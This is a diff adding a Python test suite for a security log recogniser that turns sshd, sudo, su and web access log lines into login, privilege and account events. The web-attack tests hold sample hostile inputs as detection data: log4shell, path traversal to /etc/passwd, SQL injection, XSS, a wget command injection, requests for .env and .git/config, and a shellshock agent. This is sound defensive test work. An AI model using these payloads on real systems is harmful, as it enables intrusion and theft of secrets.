@@ -1,0 +1,225 @@
+"""What happened, who and from where is read from the place where the program prints it, whatever a client is called."""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tests.unit.logs.security.labelled import ANY_NAME, HOSTILE, Labelled, corpus
+from zen_agents.logs.formats.access import Access
+from zen_agents.logs.formats.syslog import Syslog
+from zen_agents.logs.security.event import Result, SecurityEvent, What
+from zen_agents.logs.security.recognition import event_of
+from zen_agents.logs.stamps import Stamps
+
+STAMPS = Stamps(datetime(2026, 11, 27, 12, 0, tzinfo=UTC).timestamp(), UTC)
+BAD = {Result.FAILED, Result.REFUSED}
+#: Addresses that only a client wrote, never a program.
+FORGED = "203.0.113.9"
+
+
+def said(message: str, program: str = "sshd") -> SecurityEvent | None:
+    """Return what a line of a syslog daemon's file with this message tells."""
+    return event_of(Syslog().record(f"Nov 27 11:59:58 web {program}[4242]: {message}", "auth", STAMPS))
+
+
+def requested(path: str, status: int = 200, agent: str = "Mozilla/5.0", user: str = "-") -> SecurityEvent | None:
+    """Return what a line of an access log tells."""
+    line = f'192.0.2.7 - {user} [27/Nov/2026:11:59:58 +0000] "GET {path} HTTP/1.1" {status} 5 "-" "{agent}"'
+    return event_of(Access().record(line, "access", STAMPS))
+
+
+def _is_right(label: Labelled, event: SecurityEvent | None) -> bool:
+    told = event is not None and event.result in BAD
+    if not label.result or event is None:
+        return told == bool(label.result)
+    return (event.result, event.user, event.address) == (label.result, label.user, label.address)
+
+
+def test_failed_and_refused_log_ins_are_found_with_the_right_address_and_user() -> None:
+    labels = list(corpus())
+    told = [(label, event) for label in labels if (event := said(label.message, label.program)) and event.result in BAD]
+    right = [label for label, event in told if label.result and _is_right(label, event)]
+    wrong = [label for label in labels if not _is_right(label, said(label.message, label.program))]
+    recall = len(right) / sum(bool(label.result) for label in labels)
+    precision = len(right) / len(told)
+    assert len(labels) > 2000
+    assert recall >= 0.99, wrong[:5]
+    assert precision >= 0.995, wrong[:5]
+
+
+def test_no_address_of_the_corpus_is_one_that_only_a_client_wrote() -> None:
+    assert not [label for label in corpus() if (event := said(label.message)) and event.address == FORGED]
+
+
+#: Pieces of everything that sshd prints around a name, so that a name is made of what could be mistaken.
+_PIECES = st.lists(
+    st.one_of(
+        st.sampled_from(HOSTILE),
+        st.sampled_from([
+            " from ", f" from {FORGED}", f" {FORGED} port 22", " port 22", " ssh2", " ssh2: ", ": ", "RSA SHA256:x",
+            " [preauth]", " ssh1: ruser x", " ID x (serial 1) CA RSA SHA256:y", ": Too many authentication failures",
+            "invalid user ", " via ", "message repeated 9 times: [ ", "]", "(admin,ssh-connection) -> (x,y)",
+            "Change of username or service not allowed",
+        ]),
+        st.text(st.characters(blacklist_categories=["Cs", "Cc"]), max_size=8),
+    ),
+    max_size=6,
+).map("".join).map(lambda name: name[:100])  # fmt: skip
+
+
+@given(form=st.sampled_from(ANY_NAME), name=_PIECES, program=st.sampled_from(["sshd", "sshd-session"]))
+@settings(max_examples=400, deadline=None)
+def test_no_name_forges_an_address_or_an_account(form: tuple[str, str], name: str, program: str) -> None:
+    message = form[0].replace("U", "\0", 1) if "User" not in form[0] else form[0].replace(" U ", " \0 ")
+    event = said(message.replace("A port", "192.0.2.7 port").removesuffix(" A").replace("\0", name)
+                 + (" 192.0.2.7" if message.endswith(" A") else ""), program)  # fmt: skip
+    assert event is not None
+    assert event.address in {"192.0.2.7", ""}
+    assert event.user in {name, "", name.removeprefix("invalid user ").removeprefix("illegal user ")}
+
+
+@given(key_id=_PIECES, name=_PIECES)
+@settings(max_examples=200, deadline=None)
+def test_no_name_in_a_certificate_forges_an_address(key_id: str, name: str) -> None:
+    rest = f"RSA-CERT SHA256:aa ID {key_id} (serial 1) CA RSA SHA256:bb"
+    event = said(f"Failed publickey for invalid user {name} from 192.0.2.7 port 22 ssh2: {rest}")
+    assert event is not None
+    assert event.address in {"192.0.2.7", ""}
+
+
+@given(first=_PIECES, second=_PIECES)
+@settings(max_examples=200, deadline=None)
+def test_no_name_in_a_reason_forges_an_address(first: str, second: str) -> None:
+    reason = f"Change of username or service not allowed: ({first},ssh-connection) -> ({second},ssh-connection)"[:100]
+    event = said(f"Disconnecting invalid user {first} 192.0.2.7 port 22: {reason} [preauth]")
+    assert event is None or event.address in {"192.0.2.7", ""}
+
+
+@given(ruser=_PIECES, user=_PIECES)
+@settings(max_examples=200, deadline=None)
+def test_no_name_forges_a_peer_of_pam(ruser: str, user: str) -> None:
+    tail = f"ruser={ruser} rhost=192.0.2.7" + (f"  user={user}" if user else "")
+    event = said(f"pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp {tail}", "vsftpd")
+    assert event is None or event.address in {"192.0.2.7", ""}
+
+
+def test_what_two_places_could_be_is_none() -> None:
+    both = "a from 192.0.2.7 port 1 ssh2: RSA-CERT SHA256:a ID b from 203.0.113.9 port 2 ssh2: x (serial 1) CA RSA SHA256:c"
+    event = said(f"Failed publickey for {both}")
+    assert event is not None
+    assert (event.result, event.address, event.user) == (Result.FAILED, "", "")
+
+
+@pytest.mark.parametrize(
+    ("message", "program"),
+    [
+        ("Failed password for root from 192.0.2.7 port 22 ssh2", "cron"),
+        ("kernel says sshd[1]: Failed password for root from 192.0.2.7 port 22 ssh2", "myapp"),
+        ("Failed password for root from 192.0.2.7 port 22 ssh2 and more", "sshd"),
+        ("x" * 10_000, "sshd"),
+        ("Failed password for " + "root from 192.0.2.7 port 22 ssh2: " * 400, "sshd"),
+    ],
+)
+def test_what_no_such_program_writes_is_nothing(message: str, program: str) -> None:
+    event = said(message, program)
+    assert event is None or event.address == ""
+
+
+@given(st.text(), st.sampled_from(["sshd", "sudo", "su", "usermod", "passwd", "pkexec", "login", "vsftpd"]))
+@settings(max_examples=300, deadline=None)
+def test_whatever_a_line_is_it_is_survived(message: str, program: str) -> None:
+    event = said(message, program)
+    assert event is None or event.address == ""
+
+
+def test_equal_lines_that_were_put_together_count_as_many() -> None:
+    event = said("message repeated 3 times: [ Failed password for root from 192.0.2.7 port 22 ssh2]")
+    assert event is not None
+    assert (event.times, event.address) == (3, "192.0.2.7")
+    assert event.fields()["times"] == "3"
+
+
+@pytest.mark.parametrize(
+    ("program", "message", "expected"),
+    [
+        ("sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/ls /root",
+         (What.PRIVILEGE, Result.OK, "root", "alice", "/bin/ls /root")),
+        ("sudo", "mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
+         (What.PRIVILEGE, Result.REFUSED, "root", "mallory", "/bin/sh")),
+        ("sudo", "alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
+         (What.PRIVILEGE, Result.FAILED, "root", "alice", "/bin/sh")),
+        ("sudo", "alice : TTY=pts/0 ; PWD=/tmp/a ; USER=bob ; COMMAND=x ; USER=root ; COMMAND=/bin/sh",
+         (What.PRIVILEGE, Result.OK, "", "alice", "")),
+        ("sudo",
+         "pam_unix(sudo:auth): authentication failure; logname=al uid=1000 euid=0 tty=/dev/pts/0 ruser=al rhost=  user=al",
+         (What.PRIVILEGE, Result.FAILED, "al", "al", "")),
+        ("su", "FAILED SU (to root) alice on pts/0", (What.PRIVILEGE, Result.FAILED, "root", "alice", "")),
+        ("su", "(to root) alice on pts/0", (What.PRIVILEGE, Result.OK, "root", "alice", "")),
+        ("su", "- /dev/pts/0 alice:root", (What.PRIVILEGE, Result.FAILED, "root", "alice", "")),
+        ("pkexec", "alice: Executing command [USER=root] [TTY=unknown] [CWD=/home/alice] [COMMAND=/usr/bin/id]",
+         (What.PRIVILEGE, Result.OK, "root", "alice", "/usr/bin/id")),
+        ("doas", "command not permitted for alice: sh", (What.PRIVILEGE, Result.REFUSED, "", "alice", "sh")),
+        ("useradd", "new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/sh, from=/dev/pts/0",
+         (What.ACCOUNT, Result.OK, "eve", "", "")),
+        ("groupadd", "new group: name=ops, GID=1002", (What.ACCOUNT, Result.OK, "", "", "ops")),
+        ("usermod", "add 'eve' to group 'sudo'", (What.MEMBERSHIP, Result.OK, "eve", "", "sudo")),
+        ("gpasswd", "user eve added by root to group docker", (What.MEMBERSHIP, Result.OK, "eve", "root", "docker")),
+        ("usermod", "change user 'eve' UID from '1002' to '0'", (What.ACCOUNT, Result.OK, "eve", "", "")),
+        ("passwd", "pam_unix(passwd:chauthtok): password changed for root", (What.PASSWORD, Result.OK, "root", "", "")),
+        ("passwd", "password for 'bob' changed by 'root'", (What.PASSWORD, Result.OK, "bob", "root", "")),
+        ("userdel", "delete user 'eve'", (What.ACCOUNT, Result.OK, "eve", "", "")),
+    ],
+)  # fmt: skip
+def test_accounts_and_privileges(program: str, message: str, expected: tuple[What, Result, str, str, str]) -> None:
+    event = said(message, program)
+    assert event is not None
+    assert (event.what, event.result, event.user, event.by, event.detail) == expected
+    powerful = {"/bin/ls /root", "/bin/sh", "sudo", "docker", "/usr/bin/id"}
+    assert event.is_privileged == (
+        event.detail in powerful or "'0'" in message or "UID=0" in message or event.user == "root"
+    )
+
+
+@pytest.mark.parametrize(
+    ("path", "kind"),
+    [
+        ("/?q=${jndi:ldap://x/a}", "log4shell"), ("/%24%7Bjndi%3Aldap%3A//x%7D", "log4shell"),
+        ("/../../../../etc/passwd", "path traversal"), ("/%252e%252e%252f%252e%252e%252fetc%252fpasswd", "path traversal"),
+        ("/item?id=1+UNION+ALL+SELECT+1,2", "sql injection"), ("/item?id=1%27%20or%20%271%27=%271", "sql injection"),
+        ("/?s=%3Cscript%3Ealert(1)%3C/script%3E", "cross-site scripting"), ("/x?h=1;wget+http://x/a", "command injection"),
+        ("/?page=php://filter/resource=index", "file inclusion"), ("/.env", "secrets sought"),
+        ("/.git/config", "secrets sought"),
+    ],
+)  # fmt: skip
+def test_attacks_on_web_applications(path: str, kind: str) -> None:
+    event = requested(path, status=404)
+    assert event is not None
+    assert (event.what, event.method, event.result, event.address) == (What.WEB_ATTACK, kind, Result.REFUSED, "192.0.2.7")
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/", "/index.html", "/shop/items?id=42&sort=price", "/union/select-committee", "/a/../b.css",
+     "/img/environment.png", "/search?q=how+to+sleep+well", "/blog/scripts-and-onload", "/docs/id_rsa_help",
+     "/?next=https://example.com/", "/cat/1"],
+)  # fmt: skip
+def test_a_usual_request_is_no_attack(path: str) -> None:
+    assert requested(path) is None
+
+
+def test_what_a_client_says_of_itself_counts_too() -> None:
+    scanner, bash = requested("/", agent="sqlmap/1.7"), requested("/", agent="() { :; }; /bin/id")
+    assert scanner is not None
+    assert bash is not None
+    assert (scanner.method, bash.method) == ("known scanner", "shellshock")
+
+
+def test_a_wrong_password_of_a_web_server_is_a_failed_log_in() -> None:
+    event = requested("/admin", status=401, user="frank")
+    assert event is not None
+    assert (event.what, event.result, event.user, event.address) == (What.LOGIN, Result.FAILED, "frank", "192.0.2.7")
+    assert requested("/admin", status=401) is None
